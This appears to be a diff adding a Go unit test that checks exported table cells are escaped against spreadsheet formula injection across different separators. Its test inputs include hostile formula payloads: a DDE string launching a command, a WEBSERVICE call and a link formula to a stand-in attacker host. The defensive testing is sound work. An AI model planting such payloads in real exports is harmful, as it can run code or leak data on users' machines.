@@ -121,6 +121,28 @@ func TestExportTable(t *testing.T) {
 	}
 }
 
+// Programs that separate cells by something else than commas find no formula either.
+func TestExportTableOfOtherSeparators(t *testing.T) {
+	for _, c := range []struct{ said, want string }{
+		{"hi;=cmd|' /C calc'!A0;", "hi;'=cmd|' /C calc'!A0;"},
+		{"hi; =1", "hi;' =1"},
+		{"hi;\"=1&", "hi;'\"=1&"},
+		{"hi\n=1\n@SUM(1)", "hi\n'=1\n'@SUM(1)"},
+		{"hi\t+WEBSERVICE(1)", "hi\t'+WEBSERVICE(1)"},
+		{"hi;;-2+cmd|x!A0", "hi;;'-2+cmd|x!A0"},
+		{"hi;＝1", "hi;'＝1"},
+		{"hi;+'http://e.vil/x'#$a.A1", "hi;'+'http://e.vil/x'#$a.A1"},
+		{"fine ;-) and a; - b = c", "fine ;-) and a; - b = c"},
+		{"=1;=1", "'=1;'=1"},
+		{"\t=1", "'\t'=1"},
+		{"", ""},
+	} {
+		if got := cell(c.said); got != c.want {
+			t.Errorf("%q is %q, want %q", c.said, got, c.want)
+		}
+	}
+}
+
 func TestExportIsAllOrNothing(t *testing.T) {
 	dir := t.TempDir()
 	taken := filepath.Join(dir, "taken.txt")
